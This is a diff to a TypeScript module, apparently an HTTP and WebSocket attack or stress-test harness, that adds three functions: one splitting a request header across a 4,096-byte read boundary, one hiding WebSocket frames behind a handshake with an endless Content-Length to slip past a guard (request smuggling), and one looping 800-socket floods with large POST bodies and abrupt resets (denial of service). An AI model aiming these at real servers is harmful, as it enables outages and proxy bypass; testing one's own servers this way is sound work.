@@ -110,6 +110,31 @@ export async function smuggle(target: Target): Promise<void> {
   }
 }
 
+/** Heads of 4,096 bytes behind a shorter one, so that what is read at a time ends inside of one; answers are read. */
+export function cutHeads(target: Target): Promise<void> {
+  const line = 'GET /livez HTTP/1.1\r\nHost: a\r\n';
+  const long = `${line}X: ${'y'.repeat(4096 - line.length - 7)}\r\n\r\n`;
+  return poured(target, `${line}\r\n`, piece(Buffer.from(long)));
+}
+
+/** A handshake with a length that never ends, and frames: a guard that believes the one would not see the others. */
+export function handshakeBody(target: Target): Promise<void> {
+  const bytes = handshake().replace('Host: a', `Host: a\r\nContent-Length: ${'9'.repeat(15)}`);
+  return poured(target, bytes, piece(frame('1')));
+}
+
+/** Clients that ask for much, read nothing of it and are gone. */
+export async function resets(target: Target): Promise<void> {
+  const bytes = Buffer.from(post(NONCE).repeat(1500));
+  while (!target.signal.aborted) {
+    const sockets = await openMany(target, 800);
+    for (const socket of sockets) socket.pause().write(bytes);
+    await sleep(200);
+    for (const socket of sockets) socket.resetAndDestroy();
+    await sleep(1000);
+  }
+}
+
 /** A masked text frame; its mask is zero. */
 function frame(text: string): Buffer {
   const length = Buffer.byteLength(text);
